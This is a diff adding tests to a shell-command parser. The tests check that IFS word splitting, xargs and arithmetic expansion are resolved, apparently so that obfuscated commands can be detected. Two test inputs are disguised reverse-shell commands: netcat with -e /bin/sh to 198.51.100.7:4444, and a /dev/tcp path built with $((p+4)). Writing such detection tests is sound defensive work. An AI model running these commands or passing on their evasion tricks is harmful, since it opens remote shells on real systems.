@@ -227,3 +227,20 @@ def test_arrays_and_xargs_are_read():
     lines = [c.line for c in reader.read("printf 'a.sh\\nb.sh\\n' | xargs -I F chmod +x F")]
     assert lines[-2:] == ["chmod +x a.sh", "chmod +x b.sh"]
     assert [c.line for c in reader.read("echo one two | xargs rm -f")][-1] == "rm -f one two"
+
+
+def test_unquoted_expansions_are_split_on_ifs():
+    reader = ShellReader()
+    cmds = reader.read('IFS=,; c=nc,-e,/bin/sh,198.51.100.7,4444; $c')
+    assert (cmds[-1].name, cmds[-1].args) == ("nc", ["-e", "/bin/sh", "198.51.100.7", "4444"])
+    cmds = reader.read('a="-e /bin/sh"; nc $a host 1')  # the default IFS splits on spaces
+    assert cmds[-1].args == ["-e", "/bin/sh", "host", "1"]
+    cmds = reader.read('x="a b"; echo "$x"; IFS=; echo $x')  # quoted, or an empty IFS: one word
+    assert [c.args for c in cmds if c.name == "echo"] == [["a b"], ["a b"]]
+
+
+def test_arithmetic_in_words_is_evaluated_when_known():
+    reader = ShellReader()
+    assert [(c.name, c.args) for c in reader.read("python$((3)) -c pass")] == [("python3", ["-c", "pass"])]
+    assert reader.read("p=4440; echo /dev/tcp/h/$((p+4))")[-1].args == ["/dev/tcp/h/4444"]
+    assert reader.read("echo $((n+1))")[-1].args == ["$((n+1))"]  # unknown: as written
